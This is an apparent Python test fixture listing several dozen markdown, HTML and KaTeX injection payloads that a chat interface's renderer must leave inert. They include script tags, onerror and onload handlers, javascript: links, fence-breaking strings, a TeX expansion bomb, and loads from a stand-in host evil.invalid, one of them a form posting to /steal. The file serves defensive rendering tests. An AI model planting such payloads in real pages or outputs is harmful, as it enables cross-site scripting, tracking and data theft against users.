"""Markdown and HTML meant to run script, load something or restyle the page.

Each one, in a prompt or in an answer, must render inert: no dialog, no request, no script.
A payload that worked would set `window.__pwned`, open a dialog or fetch from evil.invalid.
"""

EVIL = "http://evil.invalid"

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=2;alert(2)">',
    f'<img src="{EVIL}/pixel.png">',
    '<svg onload="window.__pwned=3"><circle r="9"/></svg>',
    "<svg><script>window.__pwned=4</script></svg>",
    f'<iframe src="{EVIL}/frame"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
    "[click me](javascript:window.__pwned=6)",
    "[click me](JaVaScRiPt:alert(7))",
    "[click](  javascript:alert(8)  )",
    "[click](java&#x09;script:alert(9))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
    "[vb](vbscript:msgbox(11))",
    '<a href="javascript:alert(12)">raw link</a>',
    f"![tracking pixel]({EVIL}/img.png)",
    "![x](javascript:alert(14))",
    f'<style>body{{background:url("{EVIL}/bg.png")}} .messages{{display:none}}</style>',
    '<div style="position:fixed;inset:0;background:red" onclick="window.__pwned=15">cover</div>',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf">',
    f'<form action="{EVIL}/steal"><input name="p" autofocus onfocus="window.__pwned=16"></form>',
    '<details open ontoggle="window.__pwned=17"><summary>x</summary></details>',
    '<body onload="window.__pwned=18">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=19">',
    "```\n</code></pre><script>window.__pwned=20</script>\n```",
    "```html\n<script>window.__pwned=21</script>\n",  # a fence never closed
    "````\n```\n<img src=x onerror=window.__pwned=22>\n```\n````",  # nested fences
    '```js" onmouseover="window.__pwned=23\nalert(23)\n```',  # attribute in the info string
    "`<img src=x onerror=window.__pwned=24>`",
    f'<a href="{EVIL}" target="_self">plain evil link</a>',
    f"[ok link]({EVIL}/ok) and <{EVIL}/autolink>",
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    f'<base href="{EVIL}/">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=25>">',
    '<template><img src=x onerror="window.__pwned=26"></template>',
    f'<video src="{EVIL}/v.mp4" autoplay onplay="window.__pwned=27"></video>',
    '<input type="image" src=x onerror="window.__pwned=28">',
    "| a | b |\n|---|---|\n| <script>window.__pwned=29</script> | [x](javascript:alert(29)) |",
    "&lt;script&gt;window.__pwned=30&lt;/script&gt; &#60;img src=x onerror=window.__pwned=30&#62;",
    # Highlighted code: highlight.js's HTML must keep the code as text.
    "```python\n</code></pre><script>window.__pwned=31</script>\n```",
    '```js\nconst s = "<img src=x onerror=window.__pwned=32>"; // </span><b>\n```',
    "```html\n<svg onload=window.__pwned=33><a href=javascript:alert(33)>x</a>\n```",
    # Math: KaTeX draws it without trust (no links, classes, styles or images from TeX).
    "$\\href{javascript:window.__pwned=34}{click}$ and $\\url{javascript:alert(34)}$",
    f"$$\\includegraphics{{{EVIL}/x.png}}$$",
    "$$\\htmlStyle{position:fixed;inset:0;background:red}{cover}\\htmlClass{x}{y}$$",
    "\\(\\def\\a{\\a\\a}\\a\\)",  # an expansion bomb
    "\\[\\rule{99999em}{99999em}\\]",
    "$<img src=x onerror=window.__pwned=35>$ and $x$</span><script>window.__pwned=36</script>$y$",
    "$$\n\\text{</div><iframe src=javascript:parent.__pwned=37>}\n$$",
]
